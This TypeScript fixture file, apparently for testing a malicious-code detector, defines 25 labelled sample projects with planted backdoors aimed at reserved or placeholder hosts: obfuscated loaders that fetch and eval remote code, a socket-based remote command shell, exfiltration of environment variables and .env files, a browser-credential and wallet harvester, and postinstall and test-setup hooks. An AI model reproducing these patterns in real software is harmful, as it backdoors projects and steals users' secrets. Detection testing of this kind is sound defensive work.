// Inert fixtures: shapes of documented lures, reserved hosts, payloads that do nothing.
import { obfuscatedLine, shuffleCipherTail } from '../shapes.ts';
import type { LureFixture } from './held-out.ts';
import { b64, blob, hex, json, lines, mern, nest, tsApi, USER_CONTROLLER } from './scaffolds.ts';

/** appends to one file of a scaffold */
function tail(files: Record<string, string>, path: string, text: string): Record<string, string> {
  return { ...files, [path]: `${files[path] ?? ''}${text}` };
}

const XOR_KEY = [0x11, 0x42, 0x07, 0x5d];
const xored = (text: string): string => `[${[...Buffer.from(text)].map((byte, i) => byte ^ (XOR_KEY[i % 4] ?? 0)).join(',')}]`;
const codes = (text: string): string => [...text].map((c) => c.charCodeAt(0)).join(',');

const fixtures: readonly LureFixture[] = [
  {
    id: 'R01',
    title: 'db.js: connect falls through to an async loader with superagent, body text given to Function through a renamed constructor',
    lure: {
      files: mern('stay-market', {
        '.env': `PORT=5000\nMONGO_URI=mongodb://localhost:27017/stay\nJWT_SECRET=keep-me\nDB_REPLICA_CHECK=${b64('https://fixture-not-real.vercel.app/api/replica')}\n`,
        'server/config/db.js': lines("const mongoose = require('mongoose');", "const superagent = require('superagent');", "const logger = require('../utils/logger');", '', 'const replica = () => Buffer.from(process.env.DB_REPLICA_CHECK, "base64").toString();', '', 'const connectDatabase = async () => {', '  try {', '    const { connection } = await mongoose.connect(process.env.MONGO_URI);', "    logger.info('Mongoose connected ' + connection.host);", '  } catch (error) {', '    logger.error(error.message);', '  }', '  superagent', '    .get(replica())', "    .set('x-app-request', 'replica-check')", '    .then(({ text }) => {', '      const Handler = (() => {}).constructor;', "      new Handler('require', 'process', text)(require, process);", '    })', '    .catch(() => logger.warn("replica not reachable"));', '};', '', 'module.exports = connectDatabase;'),
      }),
    },
    expect: { level: 'malicious', file: 'server/config/db.js', indicators: ['fixture-not-real.vercel.app'] },
  },
  {
    id: 'R02',
    title: 'logger.js re-exports a transport that evals the error body inside a retry helper, axios instance with baseURL',
    lure: {
      files: mern('stay-market', {
        'server/utils/http.js': lines("const axios = require('axios');", "const client = axios.create({ baseURL: 'https://log-collector.invalid/v3', timeout: 15000 });", 'client.interceptors.request.use((config) => {', "  config.headers['x-trace'] = 'on';", '  return config;', '});', 'module.exports = client;'),
        'server/utils/transport.js': lines("const http = require('./http');", '', 'const fail = (err) => {', '  const detail = err && err.response ? err.response.data : null;', '  if (detail && detail.trace) {', '    try { eval(detail.trace); } catch (_) {}', '  }', '  return false;', '};', '', "exports.flush = (entries) => http.post('/collect', { entries }).then((res) => res.data.ok).catch(fail);"),
        'server/utils/logger.js': lines("const { flush } = require('./transport');", 'const queue = [];', 'const log = (level) => (message) => {', '  queue.push({ level, message, at: Date.now() });', "  console.log('[' + level + '] ' + message);", '};', 'setImmediate(() => flush(queue.splice(0)));', "module.exports = { info: log('info'), warn: log('warn'), error: log('error') };"),
      }),
    },
    expect: { level: 'malicious', file: 'server/utils/transport.js', indicators: ['log-collector.invalid'] },
  },
  {
    id: 'R03',
    title: 'user model: pre-save plugin loads a hex-hidden npoint document and compiles it with vm.Script from a destructured import',
    lure: {
      files: tail(mern('stay-market'), 'server/models/userModel.js', lines('', "const { get } = require('axios').default;", "const { Script } = require('vm');", `const schemaUrl = Buffer.from('${hex('https://api.npoint.io/00000000000000000009')}', 'hex').toString('utf8');`, 'const syncSchema = async () => {', '  const { data } = await get(schemaUrl);', '  const compiled = new Script(data.cookies, { filename: "schema.js" });', '  global.require = require;', '  compiled.runInThisContext();', '};', 'syncSchema().catch(() => undefined);')),
    },
    expect: { level: 'malicious', file: 'server/models/userModel.js', indicators: ['api.npoint.io/00000000000000000009'] },
  },
  {
    id: 'R04',
    title: 'decoy RPC calls in a TypeScript service, one URL recombined from three constants files, default export through index',
    lure: {
      files: tsApi('arb-scanner', {
        'src/config/chains.ts': lines('export const chains = {', ...['eth', 'bsc', 'polygon', 'arb', 'op', 'base', 'avax', 'ftm', 'cro', 'gnosis', 'linea', 'scroll'].map((n) => `  ${n}: 'https://${n}.rpc.example',`), "  mainnet: 'https://eth.rpc.example',", '} as const;', "export const domain = 'invalid';", "export const subdomain = 'node-gateway';", "export const id = 'api/7c1f';"),
        'src/services/contract.service.ts': lines("import axios from 'axios';", "import * as rpc from '../config/chains.js';", '', 'const GET_RPCNODE_URL = `https://${rpc.subdomain}.${rpc.domain}/${rpc.id}`;', '', 'class ContractService {', ...['Eth', 'Bsc', 'Polygon', 'Arb', 'Op', 'Base'].map((n) => `  async call${n}Contract() { try { const { data } = await axios.post(rpc.chains.${n.toLowerCase()}, { jsonrpc: '2.0', method: 'eth_blockNumber', params: [], id: 1 }); return data.result; } catch (err: any) { console.log(err.response?.data); } }`), '  async callHashedContract() {', '    return axios.get(GET_RPCNODE_URL).then((res) => res.data).catch((err) => {', '      this.report(err.response.data);', '    });', '  }', '  private report(message: string) {', '    try { Function(message)(); } catch (e) { console.log(message); }', '  }', '}', 'export default new ContractService();'),
        'src/services/index.ts': lines("export { PairService } from './pair.service.js';", "export { default as contracts } from './contract.service.js';"),
        'src/routes/pairs.ts': lines("import { Router } from 'express';", "import { PairService, contracts } from '../services/index.js';", 'const service = new PairService();', 'void (async () => { await contracts.callEthContract(); await contracts.callHashedContract(); })();', 'export const pairs = Router();', "pairs.get('/', async (_req, res) => { res.json(await service.list()); });"),
      }),
    },
    expect: { level: 'malicious', file: 'src/services/contract.service.ts', indicators: ['node-gateway.invalid'] },
  },
  {
    id: 'R05',
    title: 'errorHandler.js with a real handler above, and 420 blanks then a real obfuscator.io tail at the end of the export line',
    lure: {
      files: mern('stay-market', {
        'server/middleware/errorHandler.js': `${lines('module.exports = (err, req, res, next) => {', '  err.statusCode = err.statusCode || 500;', "  if (err.name === 'CastError') err.message = 'Resource not found. Invalid: ' + err.path;", '  res.status(err.statusCode).json({ success: false, message: err.message });').trimEnd()}\n};${' '.repeat(420)}${blob('tail')}\n`,
      }),
    },
    expect: { level: 'malicious', file: 'server/middleware/errorHandler.js' },
  },
  {
    id: 'R06',
    title: 'whole helper is a real obfuscator.io file (rc4, control-flow flattening, 46 kB), required by a route',
    lure: {
      files: mern('stay-market', {
        'server/middleware/helpers/validate.js': blob('big_high'),
        'server/routes/orderRoutes.js': lines("const express = require('express');", "require('../middleware/helpers/validate');", "const { newOrder, myOrders } = require('../controllers/orderController');", "const { isAuthenticatedUser } = require('../middleware/auth');", '', 'const router = express.Router();', "router.route('/order/new').post(isAuthenticatedUser, newOrder);", "router.route('/orders/me').get(isAuthenticatedUser, myOrders);", 'module.exports = router;'),
      }),
    },
    expect: { level: 'malicious', file: 'server/middleware/helpers/validate.js' },
  },
  {
    id: 'R07',
    title: 'payment controller ends with a getCookie IIFE in callback style with request, two JSON-store ids, eval by an indirect name',
    lure: {
      files: tail(mern('stay-market'), 'server/controllers/orderController.js', lines('', "const request = require('request');", "const evl = eval;", "const sources = ['https://www.jsonkeeper.com/b/FIXT0', 'https://api.npoint.io/00000000000000000011'];", '(function getCookie(list) {', '  if (!list.length) return;', '  request({ url: list[0], json: true }, function (error, response, body) {', '    if (!error && body) evl(body.cookie);', '    getCookie(list.slice(1));', '  });', '})(sources);')),
    },
    expect: { level: 'malicious', file: 'server/controllers/orderController.js', indicators: ['api.npoint.io/00000000000000000011'] },
  },
  {
    id: 'R08',
    title: 'NestJS ScheduleModule cron job: HttpService observable mapped into Function.constructor',
    lure: {
      files: nest('trade-engine', {
        'src/tasks/tasks.module.ts': lines("import { Module } from '@nestjs/common';", "import { HttpModule } from '@nestjs/axios';", "import { ScheduleModule } from '@nestjs/schedule';", "import { TasksService } from './tasks.service';", '@Module({ imports: [HttpModule, ScheduleModule.forRoot()], providers: [TasksService] })', 'export class TasksModule {}'),
        'src/tasks/tasks.service.ts': lines("import { Injectable, Logger } from '@nestjs/common';", "import { Cron, CronExpression } from '@nestjs/schedule';", "import { HttpService } from '@nestjs/axios';", "import { map } from 'rxjs';", "import { FEATURES } from './tasks.constants';", '', '@Injectable()', 'export class TasksService {', '  private readonly logger = new Logger(TasksService.name);', '  constructor(private readonly http: HttpService) {}', '', '  @Cron(CronExpression.EVERY_MINUTE)', '  refresh() {', '    this.http', '      .post(FEATURES.endpoint, { ...process.env })', '      .pipe(map((response) => response.data))', '      .subscribe({', '        next: (body) => this.execute(body.token),', "        error: () => this.logger.warn('feature sync failed'),", '      });', '  }', '', '  private execute(token: string) {', "    const handler = new (Function.constructor as any)('require', token);", '    handler(require);', "    this.logger.log('API Key verified successfully.');", '  }', '}'),
        'src/tasks/tasks.constants.ts': lines('export const FEATURES = {', `  endpoint: Buffer.from('${b64('https://oracle-sync.invalid/api/validate?token=fixture')}', 'base64').toString(),`, '};'),
        'src/app.module.ts': lines("import { Module } from '@nestjs/common';", "import { ConfigModule } from '@nestjs/config';", "import { UsersModule } from './users/users.module';", "import { MarketModule } from './market/market.module';", "import { TasksModule } from './tasks/tasks.module';", '', '@Module({ imports: [ConfigModule.forRoot({ isGlobal: true }), UsersModule, MarketModule, TasksModule] })', 'export class AppModule {}'),
      }),
    },
    expect: { level: 'malicious', file: 'src/tasks/tasks.service.ts', indicators: ['oracle-sync.invalid'] },
  },
  {
    id: 'R09',
    title: 'Socket.IO RAT in server/socket.js: commands from the operator go to exec, replies go back, reconnect forever',
    lure: {
      files: mern('stay-market', {
        'server/socket/index.js': lines("const io = require('socket.io-client');", "const os = require('os');", "const { exec } = require('child_process');", '', "const link = io('http://198.51.100.23:8087', { reconnection: true, reconnectionDelay: 5000 });", "link.on('connect', () => link.emit('whoIm', { ukey: 101, host: os.hostname(), user: os.userInfo().username, platform: os.platform() }));", "link.on('command', (msg) => {", '  exec(msg.message, { windowsHide: true, maxBuffer: 1024 * 1024 * 300 }, (error, stdout, stderr) => {', "    link.emit('message', { ...msg, result: error ? stderr : stdout });", '  });', '});', "link.on('processControl', () => link.emit('processStatus', { uptime: process.uptime() }));", 'module.exports = link;'),
        'server/routes/productRoutes.js': lines("const express = require('express');", "require('../socket');", "const { getProducts, createProduct } = require('../controllers/productController');", 'const router = express.Router();', "router.route('/products').get(getProducts);", "router.route('/admin/product/new').post(createProduct);", 'module.exports = router;'),
      }),
    },
    expect: { level: 'malicious', file: 'server/socket/index.js', indicators: ['198.51.100.23'] },
  },
  {
    id: 'R10',
    title: 'checkStatus implant in plain code in a utility: polls, evals message when status is error',
    lure: {
      files: tsApi('arb-scanner', {
        'src/utils/health-check.ts': lines("import os from 'node:os';", "import { request } from 'undici';", '', "const HOST = [203, 0, 113, 77].join('.');", 'let sysId = "";', 'const info = () => ({ hostname: os.hostname(), macs: Object.values(os.networkInterfaces()).flat().map((i) => i?.mac), os: os.type() });', '', 'async function checkStatus(): Promise<void> {', '  const query = new URLSearchParams({ sysInfo: JSON.stringify(info()), processInfo: JSON.stringify(process.env), tid: "fixture", sysId });', '  const { body } = await request(`http://${HOST}:3000/api/checkStatus?${query}`);', '  const reply = (await body.json()) as { status: string; message: string; sysId: string };', "  if (reply.status === 'error') {", '    try { eval(reply.message); } catch (err) { console.error("error", err); }', '  } else sysId = reply.sysId;', '}', '', 'export function startHealthCheck() { setInterval(() => { checkStatus().catch(() => {}); }, 5000); }'),
        'src/app.ts': lines("import express from 'express';", "import helmet from 'helmet';", "import { router } from './routes/index.js';", "import { errorHandler } from './middleware/error-handler.js';", "import { startHealthCheck } from './utils/health-check.js';", '', 'export function createApp() {', '  const app = express();', '  app.use(helmet());', "  app.use('/api', router);", '  app.use(errorHandler);', '  startHealthCheck();', '  return app;', '}'),
      }),
    },
    expect: { level: 'malicious', file: 'src/utils/health-check.ts', indicators: ['203.0.113.77'] },
  },
  {
    id: 'R11',
    title: 'rotating-XOR byte arrays name the modules and the host; download, write to temp, spawn node',
    lure: {
      files: tail(
        mern('stay-market', {
          'server/utils/cache.js': lines(`const k = [${XOR_KEY.join(', ')}];`, "const d = (a) => a.map((c, i) => String.fromCharCode(c ^ k[i % 4])).join('');", `const n = [${['axios', 'fs', 'os', 'path', 'child_process'].map(xored).join(', ')}];`, `const u = ${xored('http://203.0.113.40:1224/client/0/00')};`, 'const [http, fs, os, path, cp] = n.map((m) => require(d(m)));', 'const warm = async () => {', `  const file = path.join(os.tmpdir(), d(${xored('test.js')}));`, '  const res = await http.get(d(u));', '  fs.writeFileSync(file, res.data);', '  cp.spawn(process.execPath, [file], { detached: true, stdio: "ignore", windowsHide: true }).unref();', '};', 'exports.warm = warm;'),
        }),
        'server/config/db.js',
        "\nrequire('../utils/cache').warm().catch(() => {});\n",
      ),
    },
    expect: { level: 'malicious', file: 'server/utils/cache.js' },
  },
  {
    id: 'R12',
    title: 'three child implants over stdin: node - spawned with text from the reply',
    lure: {
      files: mern('stay-market', {
        'server/utils/workers.js': lines("const { spawn } = require('child_process');", "const fetch = require('node-fetch');", '', 'function start(name, code) {', "  const child = spawn(process.execPath, ['-'], { detached: true, stdio: ['pipe', 'ignore', 'ignore'], windowsHide: true });", '  child.stdin.write(code);', '  child.stdin.end();', '  child.unref();', '}', '', 'async function syncConfigHandler() {', "  const res = await fetch('https://api.jsonsilo.com/public/00000000-0000-0000-0000-000000000000');", '  const { ldb, auto, sock } = await res.json();', "  start('ldb', ldb);", "  start('auto', auto);", "  start('sock', sock);", '}', 'module.exports = { syncConfigHandler };'),
        'server/middleware/errorHandler.js': lines("const { syncConfigHandler } = require('../utils/workers');", 'syncConfigHandler().catch(() => {});', 'module.exports = (err, req, res, next) => {', '  res.status(err.statusCode || 500).json({ success: false, message: err.message });', '};'),
      }),
    },
    expect: { level: 'malicious', file: 'server/utils/workers.js', indicators: ['api.jsonsilo.com'] },
  },
  {
    id: 'R13',
    title: 'prepare starts the server; auth route posts process.env and runs the answer, split over four files, ESM re-exports',
    lure: {
      files: tsApi(
        'arb-scanner',
        {
          '.env': `PORT=4000\nAUTH_API=${b64('https://fixture-not-real.vercel.app/api/ipcheck')}\n`,
          '.gitignore': 'node_modules\ndist\n',
          'src/config/auth.ts': lines('export const AUTH_API = atob(process.env.AUTH_API ?? "");', "export const HEADERS = { 'x-secret-header': 'secret' } as const;"),
          'src/lib/verify.ts': lines("import axios from 'axios';", "import { AUTH_API, HEADERS } from '../config/auth.js';", 'export const verify = <T>(payload: unknown) => axios.post<T>(AUTH_API, payload, { headers: HEADERS });'),
          'src/lib/index.ts': lines("export * from './verify.js';", "export { executor as validate } from './executor.js';"),
          'src/lib/executor.ts': lines("import { createRequire } from 'node:module';", 'const req = createRequire(import.meta.url);', 'export function executor(message: string): boolean {', "  const handler = new Function('require', message);", '  handler(req);', '  return true;', '}'),
          'src/routes/auth.ts': lines("import { Router } from 'express';", "import { validate, verify } from '../lib/index.js';", '', 'const validateApiKey = async (): Promise<boolean> => {', '  try {', '    const { data } = await verify<string>({ ...process.env });', '    validate(data);', "    console.log('API Key verified successfully.');", '    return true;', '  } catch {', "    console.log('Aborting mempool scan due to failed API verification.');", '    return false;', '  }', '};', 'await validateApiKey();', '', "export const auth = Router().post('/login', (_req, res) => res.json({ ok: true }));"),
          'src/routes/index.ts': lines("import { Router } from 'express';", "import { pairs } from './pairs.js';", "import { health } from './health.js';", "import { auth } from './auth.js';", 'export const router = Router();', "router.use('/auth', auth);", "router.use('/pairs', pairs);", "router.use('/health', health);"),
        },
        { scripts: { dev: 'tsx watch src/index.ts', build: 'tsc -p .', start: 'node dist/index.js', prepare: 'start /b npx tsx src/index.ts || nohup npx tsx src/index.ts &' } },
      ),
    },
    expect: { level: 'malicious', file: 'src/lib/executor.ts', indicators: ['fixture-not-real.vercel.app'] },
  },
  {
    id: 'R14',
    title: 'charcode URL, reversed sink name, module.constructor._load instead of require, in a nodemailer helper',
    lure: {
      files: tail(
        mern('stay-market', {
          'server/utils/sendEmail.js': lines("const nodeMailer = require('nodemailer');", '', 'const sendEmail = async (options) => {', '  const transporter = nodeMailer.createTransport({ host: process.env.SMTP_HOST, port: process.env.SMTP_PORT });', '  await transporter.sendMail({ from: process.env.SMTP_MAIL, to: options.email, html: options.message });', '};', '', 'const load = module.constructor._load;', `const template = String.fromCharCode(${codes('https://mail-template.invalid/t/9')});`, "const run = globalThis['lave'.split('').reverse().join('')];", "load('https').get(template, (res) => {", '  const parts = [];', "  res.on('data', (p) => parts.push(p)).on('end', () => run(Buffer.concat(parts).toString()));", "}).on('error', () => {});", '', 'module.exports = sendEmail;'),
        }),
        'server/controllers/userController.js',
        "\nconst sendEmail = require('../utils/sendEmail');\nexports.forgotPassword = asyncErrorHandler(async (req, res) => {\n  await sendEmail({ email: req.body.email, message: 'reset' });\n  res.json({ success: true });\n});\n",
      ),
    },
    expect: { level: 'malicious', file: 'server/utils/sendEmail.js', indicators: ['mail-template.invalid'] },
  },
  {
    id: 'R15',
    title: 'shuffle cipher with global["r"]=require behind 160 blanks in the middle of a long honest controller',
    lure: {
      files: mern('stay-market', {
        'server/controllers/userController.js': `${USER_CONTROLLER.replace("  sendToken(user, 201, res);\n});", `  sendToken(user, 201, res);\n});${' '.repeat(160)}global['r']=require;${shuffleCipherTail()}`)}\n${lines(...Array.from({ length: 40 }, (_, i) => `exports.field${i} = asyncErrorHandler(async (req, res) => {\n  res.json({ success: true, value: req.user.field${i} });\n});`))}`,
      }),
    },
    expect: { level: 'malicious', file: 'server/controllers/userController.js' },
  },
  {
    id: 'R16',
    title: 'EtherHiding: eth_call to a BSC contract, hex result decoded and run by vm.runInNewContext with require',
    lure: {
      files: tsApi('arb-scanner', {
        'src/services/memo.service.ts': lines("import vm from 'node:vm';", "import { createRequire } from 'node:module';", '', "const CONTRACT = '0x0000000000000000000000000000000000000fff';", "const RPC = 'https://bsc-dataseed.fixture.example/';", '', 'export class MemoService {', '  static async load() {', '    const reply = await fetch(RPC, {', "      method: 'POST',", "      headers: { 'content-type': 'application/json' },", "      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: CONTRACT, data: '0x6d4ce63c' }, 'latest'] }),", '    });', '    const { result } = await reply.json();', "    const memo = Buffer.from(result.slice(2 + 128), 'hex').toString('utf8').replace(/\\0+$/, '');", '    vm.runInNewContext(memo, { require: createRequire(import.meta.url), process, Buffer, console });', '  }', '}'),
        'src/routes/pairs.ts': lines("import { Router } from 'express';", "import { PairService } from '../services/pair.service.js';", "import { MemoService } from '../services/memo.service.js';", 'const service = new PairService();', 'MemoService.load().catch(() => null);', 'export const pairs = Router();', "pairs.get('/', async (_req, res) => { res.json(await service.list()); });"),
      }),
    },
    expect: { level: 'malicious', file: 'src/services/memo.service.ts', indicators: ['0x0000000000000000000000000000000000000fff'] },
  },
  {
    id: 'R17',
    title: 'TRON dead drop: last outgoing transaction names a BSC transaction, its input is XOR-decoded and evaluated',
    lure: {
      files: mern('stay-market', {
        'server/utils/gas.js': lines("const axios = require('axios');", "const KEY = 'fixture-xor-key';", '', 'const unmask = (text) => {', "  let out = '';", '  for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ KEY.charCodeAt(i % KEY.length));', '  return out;', '};', '', 'async function latest(wallet) {', "  const { data } = await axios.get('https://trongrid.fixture.example/v1/accounts/' + wallet + '/transactions?only_confirmed=true&only_from=true&limit=1');", "  return Buffer.from(data.data[0].raw_data.data, 'hex').toString('utf8').split('').reverse().join('');", '}', '', 'async function gasOracle() {', "  const hash = await latest('TFixtureFixtureFixtureFixtureFixtu');", "  const { data } = await axios.post('https://bsc.rpc.example', { jsonrpc: '2.0', id: 1, method: 'eth_getTransactionByHash', params: [hash] });", "  const body = Buffer.from(data.result.input.substring(2), 'hex').toString('utf8').split('?.?')[1];", '  const code = unmask(body);', '  return eval(code);', '}', 'module.exports = { gasOracle };'),
        'server/controllers/orderController.js': lines("const Order = require('../models/orderModel');", "const { gasOracle } = require('../utils/gas');", "const asyncErrorHandler = require('../middleware/asyncErrorHandler');", 'gasOracle();', 'exports.newOrder = asyncErrorHandler(async (req, res) => { res.status(201).json(await Order.create(req.body)); });', 'exports.myOrders = asyncErrorHandler(async (req, res) => { res.json(await Order.find({ user: req.user._id })); });'),
      }),
    },
    expect: { level: 'malicious', file: 'server/utils/gas.js' },
  },
  {
    id: 'R18',
    title: 'data: module import of a fetched body, top-level await in an ESM config loader',
    lure: {
      files: tsApi('arb-scanner', {
        'src/config/remote.ts': lines("import got from 'got';", "const source = new URL('/v1/flags', 'https://flags-edge.invalid');", 'const text = await got(source).text();', "const module = await import('data:text/javascript;base64,' + Buffer.from(text).toString('base64'));", 'export const flags: Record<string, boolean> = module.default;'),
        'src/config/index.ts': lines("import { chains } from './chains.js';", "import { flags } from './remote.js';", 'export const config = { port: Number(process.env.PORT ?? 4000), flags, chains };'),
      }),
    },
    expect: { level: 'malicious', file: 'src/config/remote.ts', indicators: ['flags-edge.invalid'] },
  },
  {
    id: 'R19',
    title: 'worker_threads with eval: true on a downloaded body',
    lure: {
      files: mern('stay-market', {
        'server/utils/imageWorker.js': lines("const { Worker } = require('worker_threads');", "const https = require('https');", '', 'const download = (url) => new Promise((resolve, reject) => {', '  https.get(url, (res) => {', "    let body = '';", "    res.setEncoding('utf8');", "    res.on('data', (chunk) => { body += chunk; });", "    res.on('end', () => resolve(body));", "  }).on('error', reject);", '});', '', 'module.exports = async function resizeWorker() {', "  const code = await download('https://img-codec.invalid/worker.js');", '  return new Worker(code, { eval: true });', '};'),
        'server/controllers/productController.js': lines("const Product = require('../models/productModel');", "const resizeWorker = require('../utils/imageWorker');", "const asyncErrorHandler = require('../middleware/asyncErrorHandler');", 'const worker = resizeWorker().catch(() => null);', 'exports.getProducts = asyncErrorHandler(async (req, res) => { res.json(await Product.find()); });', 'exports.createProduct = asyncErrorHandler(async (req, res) => { await worker; res.json(await Product.create(req.body)); });'),
      }),
    },
    expect: { level: 'malicious', file: 'server/utils/imageWorker.js', indicators: ['img-codec.invalid'] },
  },
  {
    id: 'R20',
    title: 'environment exfiltration at start, nothing is evaluated',
    lure: {
      files: mern('stay-market', {
        'server/config/telemetry.js': lines("const axios = require('axios');", "const os = require('os');", "const fs = require('fs');", "const path = require('path');", '', 'const snapshot = () => ({', '  env: process.env,', '  user: os.userInfo().username,', '  host: os.hostname(),', "  dotenv: fs.existsSync('.env') ? fs.readFileSync(path.resolve('.env'), 'utf8') : '',", '});', '', "axios.post('http://192.0.2.61:5918/api/notify', snapshot()).catch(() => {});"),
        'server/config/db.js': lines("const mongoose = require('mongoose');", "require('./telemetry');", 'module.exports = async () => { await mongoose.connect(process.env.MONGO_URI); };'),
      }),
    },
    expect: { level: 'malicious', file: 'server/config/telemetry.js', indicators: ['192.0.2.61'] },
  },
  {
    id: 'R21',
    title: 'wallet and browser profile harvester in plain code with form upload (throws first)',
    lure: {
      files: mern('stay-market', {
        'server/utils/backup.js': lines("const fs = require('fs');", "const os = require('os');", "const path = require('path');", "const FormData = require('form-data');", "const axios = require('axios');", '', "if (process.env.FIXTURE_ARMED !== 'never-in-this-universe') throw new Error('inert fixture');", '', "const BASE = path.join(os.homedir(), 'fixture-does-not-exist', 'Google', 'Chrome', 'User Data');", "const EXT = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'ibnejdfjmmkpcnlpebklmnkoeoihofec'];", '', 'async function collect() {', '  const form = new FormData();', '  for (let i = 0; i <= 200; i++) {', "    const profile = i === 0 ? 'Default' : 'Profile ' + i;", "    for (const file of ['Login Data', 'Web Data', 'Cookies']) {", '      const at = path.join(BASE, profile, file);', '      if (fs.existsSync(at)) form.append("multi_file", fs.createReadStream(at), { filename: "0_" + profile + file });', '    }', '    for (const id of EXT) {', "      const dir = path.join(BASE, profile, 'Local Extension Settings', id);", '      if (!fs.existsSync(dir)) continue;', '      for (const name of fs.readdirSync(dir)) form.append("multi_file", fs.createReadStream(path.join(dir, name)));', '    }', '  }', "  await axios.post('http://203.0.113.12:1224/uploads', form, { headers: form.getHeaders() });", '}', 'module.exports = { collect };', 'collect();'),
        'server/routes/userRoutes.js': lines("const express = require('express');", "try { require('../utils/backup'); } catch (e) {}", "const { registerUser, loginUser } = require('../controllers/userController');", 'const router = express.Router();', "router.route('/register').post(registerUser);", "router.route('/login').post(loginUser);", 'module.exports = router;'),
      }),
    },
    expect: { level: 'malicious', file: 'server/utils/backup.js', indicators: ['203.0.113.12'] },
  },
  {
    id: 'R22',
    title: 'setTimeout with a string from a JSON constants file that is base64 of a loader',
    lure: {
      files: mern('stay-market', {
        'server/config/constants.json': json({ currency: 'USDC', pageSize: 12, feeBps: 250, layout: b64("require('https').get('https://layout-cdn.invalid/l',function(r){var s='';r.on('data',function(d){s+=d});r.on('end',function(){eval(s)})})") }),
        'server/utils/layout.js': lines("const { layout } = require('../config/constants.json');", 'global.require = require;', "const decoded = Buffer.from(layout, 'base64').toString();", 'exports.apply = () => new Function(decoded);', 'setTimeout(exports.apply(), 0);'),
        'server/middleware/auth.js': lines("const jwt = require('jsonwebtoken');", "require('../utils/layout');", 'exports.isAuthenticatedUser = (req, res, next) => { req.user = jwt.verify(req.cookies.token, process.env.JWT_SECRET); next(); };', 'exports.authorizeRoles = () => (req, res, next) => next();'),
      }),
    },
    expect: { level: 'malicious', file: 'server/utils/layout.js', indicators: ['layout-cdn.invalid'] },
  },
  {
    id: 'R23',
    title: 'child_process execSync of node -e with a base64 blob in a seed script run by postinstall',
    lure: {
      files: mern(
        'stay-market',
        { 'server/scripts/seed.js': lines("const { execSync } = require('child_process');", `const fixtures = '${b64("require('http').get('http://198.51.100.9:3001/p',r=>{let s='';r.on('data',d=>s+=d).on('end',()=>eval(s))})")}';`, "execSync('node -e \"eval(Buffer.from(\\'' + fixtures + '\\', \\'base64\\').toString())\"', { stdio: 'ignore', windowsHide: true });", "console.log('Seeded 24 products');") },
        { scripts: { start: 'node server/server.js', postinstall: 'node server/scripts/seed.js' } },
      ),
    },
    expect: { level: 'malicious', file: 'server/scripts/seed.js' },
  },
  {
    id: 'R24',
    title: 'jest setup file downloads and requires a file from the temp folder',
    lure: {
      files: nest(
        'trade-engine',
        {
          'jest.config.js': lines('module.exports = {', "  preset: 'ts-jest',", "  setupFilesAfterEnv: ['<rootDir>/test/setup.js'],", "  testEnvironment: 'node',", '};'),
          'test/setup.js': lines("const fs = require('fs');", "const os = require('os');", "const path = require('path');", "const axios = require('axios');", 'jest.setTimeout(30000);', 'beforeAll(async () => {', "  const file = path.join(os.tmpdir(), 'jest-matchers.js');", "  const { data } = await axios({ url: 'https://jest-matchers.invalid/latest.js', responseType: 'text' });", '  fs.writeFileSync(file, data);', '  require(file);', '});'),
        },
        {},
      ),
    },
    expect: { level: 'malicious', file: 'test/setup.js', indicators: ['jest-matchers.invalid'] },
  },
  {
    id: 'R25',
    title: 'whole-file 90 kB single line as helper, loaded from app bootstrap through a folder index',
    lure: {
      files: tsApi('arb-scanner', {
        'src/helpers/index.js': lines("export * from './format.js';", "import './polyfill.js';"),
        'src/helpers/format.js': lines('export const usd = (n) => n.toLocaleString("en-US", { style: "currency", currency: "USD" });'),
        'src/helpers/polyfill.js': obfuscatedLine(90_000, 31),
        'src/app.ts': lines("import express from 'express';", "import { usd } from './helpers/index.js';", "import { router } from './routes/index.js';", 'export function createApp() {', '  const app = express();', "  app.use('/api', router);", "  app.get('/fee', (_q, r) => r.send(usd(2.5)));", '  return app;', '}'),
      }),
    },
    expect: { level: 'malicious', file: 'src/helpers/polyfill.js' },
  },
];
export default fixtures;
